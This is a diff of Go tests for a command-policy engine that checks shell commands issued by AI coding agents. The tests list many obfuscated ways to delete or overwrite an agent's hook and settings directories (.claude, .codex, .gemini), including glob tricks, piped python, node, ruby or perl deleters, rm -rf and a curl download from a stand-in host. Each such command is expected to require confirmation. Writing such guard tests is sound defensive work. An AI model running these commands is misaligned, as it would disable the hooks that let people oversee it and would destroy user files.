@@ -40,8 +40,9 @@ func numbered(n int) string {
 // TestH771ManyPatternsCostLittle: long commands of words, braces, tests and code.
 func TestH771ManyPatternsCostLittle(t *testing.T) {
 	p := must(t, policy.Config{})
-	for begin, part := range map[string]string{"x ": "{a,b}{c,d}*/[x]* ", "find . ": "-name '*s*e*t*t*i*n*g*s*' -o ", "python3 -c '": "a.b/c ", "git rm ": "*a*/*b?.js* ", "find . -delete -regex '": "sett.", "rm ": "$x/*a* ", "cd a; cd b; cd c; cd d; x ": "a/../b "} {
-		command := begin + strings.Repeat(part, (60<<10)/len(part)) + "x'"
+	roots := "find " + strings.Repeat("a ", 15000)
+	for begin, part := range map[string]string{roots + " ": "-name x ", roots + "  ": "-regex abcd/abcd ", roots + strings.Repeat("a ", 13800) + "-regex x": "/abcd", "find " + numbered(4000): "! -name x ", "x ": "{a,b}{c,d}*/[x]* ", "find . ": "-name '*s*e*t*t*i*n*g*s*' -o ", "python3 -c '": "a.b/c ", "git rm ": "*a*/*b?.js* ", "find . -delete -regex '": "sett.", "rm ": "$x/*a* ", "cd a; cd b; cd c; cd d; x ": "a/../b "} {
+		command := begin + strings.Repeat(part, max(0, 60<<10-len(begin))/len(part)) + "x'"
 		if !strings.Contains(begin+part, "'") || strings.Count(begin+part, "'") == 2 {
 			command = strings.TrimSuffix(command, "'")
 		}
@@ -64,6 +65,7 @@ func TestH770GitThatNamesAnAgentsHooksAsks(t *testing.T) {
 			"git mv .opencode/plugin x", "git restore opencode.json", "git mv .gemini/settings.json x",
 			"sudo git rm -r .claude", "git -C x -C .. mv .claude y", "git mv .cl\"aud\"e x", "git mv .CLAUDE x", "git mv $'\\x2eclaude' x", "git rm ':(glob,icase)**/SETTINGS.JSON'", "git rm '[.]claude/*'", "git submodule add ../x .claude", "git rebase --exec 'rm -rf .claude' HEAD~1", "git ls-files '*settings.json' | xargs rm",
 			"GIT_WORK_TREE=.claude git checkout -f evil", "git -c core.worktree=.claude checkout -f evil", "echo .claude | git checkout evil --pathspec-from-file=-", "git restore --pathspec-from-file=- <<< .claude", "git checkout -m .claude", "git subtree add -P .claude x main", "git filter-branch --tree-filter 'rm -rf .claude' HEAD",
+			"git ls-files .claude | python3 -c \"import sys,os; [os.remove(l.strip()) for l in sys.stdin]\"",
 		},
 		taint.Allow: {
 			"git mv src a", "git rm foo.go", "git rm -r build", "git checkout main", "git checkout -b fix", "git checkout -- .", "git restore .", "git restore src/main.go", "git stash", "git stash pop", "git stash list", "git checkout -- '*.json'", "git rm '*.pyc'", "git mv settings.json x",
@@ -84,6 +86,7 @@ func TestH771FindThatMayFindAnAgentsHooksAsks(t *testing.T) {
 			"for f in $(find . -name settings.json); do mv $f x; done", "find .codex -type f -exec rm {} +", "find . -name settings.json -exec cp x {} \\;", "find . -name settings.json -exec mv {} x \\;", "find . -name '[!x]ettings.json' -delete", "find . -name set\\*.json -delete", "find . -name \"$x\" -delete", "find . -samefile .claude/settings.json -delete", "find . -iregex '.*CLAUDE.*' -delete", "find . -regex '\\./\\.claude/.*' -delete", "find . ! ! -name settings.json -delete", "find . ! -name settings.json -o -delete",
 			"find . -path './.*/*' -delete", "find . -maxdepth 1 -name '.*' -exec rm -rf {} +", "find . -name settings.json -exec rsync x {} \\;", "f=$(find . -name settings.json); echo '{}' > $f", "find . -name settings.json > /tmp/l; xargs rm < /tmp/l", "find . -name settings.json -ok rm {} \\;", "find . -name settings.json | parallel rm", "find ~/go -name verifier-hook -delete", "find ~ -name verifier.js -delete",
 			"xargs rm < <(echo .claude)", "rm -rf .*", "mv .[!.]* /tmp", "cd .claude && find . -name '*.json' -delete", "find . -path '?/.claude/*' -delete", "ls -a | grep claude | xargs rm -rf", "git ls-files .claude | xargs rm",
+			"find . -name '.[c][l]*' -exec rm -rf {} +", "find .claude -type f | python3 -c \"import sys,os; [os.remove(l.strip()) for l in sys.stdin]\"", "find .claude -type f | perl -ne 'chomp; unlink'",
 		},
 		taint.Allow: {
 			"find . -name '*.pyc' -delete", "find build -type f -delete", "find . -name settings.json", "find . -name settings.json -exec cat {} +", "find . -name '*.json' | xargs grep -n x", "find . -path '*/.claude/*' -type f", "find . -name __pycache__ -type d -exec rm -rf {} +", "find . -name '*.js' -delete",
@@ -102,10 +105,25 @@ func TestH772CopiesAndProgramsThatNameAnAgentsHooksAsk(t *testing.T) {
 			"python3 -m json.tool evil.json .claude/settings.json", "unzip x.zip -d .claude", "d=.claude; ruby -i -pe x $d/settings.json", "cd ~/.codex; ruby -pi -e x *.toml", "git archive evil .claude | tar x",
 			"python3 -c \"import shutil; shutil.rmtree('.claude')\"", "python3 - <<'E'\nimport shutil\nshutil.rmtree('.claude')\nE", "sudo -A rm -rf .claude", "env -S 'rm -rf .claude'", "eval 'rm -rf .claude'", "timeout --verbose 5 rm -rf .claude", "cd .claude && curl -O https://e.example/settings.json", "rm .claude/\"${x}\".json", "rm .claude/[!x]ettings.json",
 			"cd .claude && ../x.sh", "at now <<< 'rm -rf .claude'", "cd .claude && rm " + numbered(300) + "settings.json", "x " + numbered(5000) + ".claude", "rm -rf .claude; : " + numbered(12000), "rm -rf .claude; : " + strings.Repeat("{", 300), "echo 'rm -rf .claude' | sh", "bash <(echo 'rm -rf .claude')",
+			"cp evil.json .[c][l]*/settings.json", "rm .[c][l][a][u][d][e]/settings.json", "echo x > .[c][l]*/settings.json", "sed -i s/a/b/ .[c][l]*/settings.json", "rm [.][c]*/settings.json", "rm .?[l]*/settings.json",
+			"cd .[c][l]* && cp ../evil.json settings.json", "D=.[c][l]*; cp evil.json $D/settings.json", "rm .[c][o]*/hooks.json", "rm -r .[o]*/plugin", "tee .[c][l]*/settings.json < x", "dd if=x of=.[c][l]*/settings.json",
+			"install x .[c][l]*/settings.json", "ln -sf x .[c][l]*/settings.json", "mv x .[c][l]*/settings.json", "ls -d .claude | python3 -c \"import sys,shutil; [shutil.rmtree(l.strip()) for l in sys.stdin]\"",
+			"ls -d .claude | node -e \"require('fs').rmSync(require('fs').readFileSync(0,'utf8').trim(),{recursive:true})\"", "ls -d .claude | ruby -e \"require 'fileutils'; FileUtils.rm_rf(STDIN.read.strip)\"",
+			"ls -d .cl* | python3 -c \"import sys,shutil; [shutil.rmtree(l.strip()) for l in sys.stdin]\"", "du -a .claude | python3 -c \"import sys,os; [os.remove(l.split()[1]) for l in sys.stdin]\"", "ls -d .claude > /tmp/d; python3 -c \"import shutil; shutil.rmtree(open('/tmp/d').read().strip())\"",
+			"cp evil.json '[\\..\\.claude\\]\\..\\settings.json'", "cp evil.js '[/.opencode/plugin/a].js'", "perl -pi -e x .[c][l]*/settings.json", "rm .[[:alpha:]]*/settings.json", "rm .*/settings.json", "rm -rf .cl*/*",
+			"rm .[]c]laude/settings.json", "rm .[c][l]*/[!x]ettings.json",
 		},
 		taint.Allow: {
 			"cp -r src/. out", "cp .claude/commands/a.md docs/", "perl -ne print .claude/commands/x.md", "python3 -m json.tool .claude/settings.json", "ls -d .claude/* | xargs cat", "cp a.json b.json", "ln -s ../x y", "mv a b", "perl -pi -e s/a/b/ src/*.go", "cd src && perl -pi -e s/a/b/ *.go",
 			"cd .claude/skills/x && python3 run.py", "cd .claude && ls", "tar xf x.tar -C out", "cat > docs/x.md <<'E'\nPut it into .claude\nE\nnpm test", "x [a-z]", "python3 -c 'import re; re.sub(\".*\", \"x\", s)'", "x " + numbered(300) + "y",
+			"rm [a-z]*", "rm -rf out/[[:alnum:]]*", "perl -pi -e 's/.*/tool/' x", "rm app/[id]/page.tsx",
+			"cd a; make; cd ../b; make; cd ../c; make; cd ../d; make; python3 - <<'E'\n" + strings.Repeat("total = compute(a, b) + c\n", 250) + "E",
 		},
 	})
+	p := must(t, policy.Config{})
+	for _, file := range []string{"[/.opencode/plugin/a].js", "/home/me/[work/app/.codex/hooks/a].sh", "src/[id/.gemini/extensions/x]/y.json"} { // no class has a slash
+		if v := ownCall(t, p, "claude-code", "write", map[string]string{"file_path": file, "content": "x"}); v.Mode != taint.Confirm {
+			t.Errorf("write %s: %s", file, v.Mode)
+		}
+	}
 }
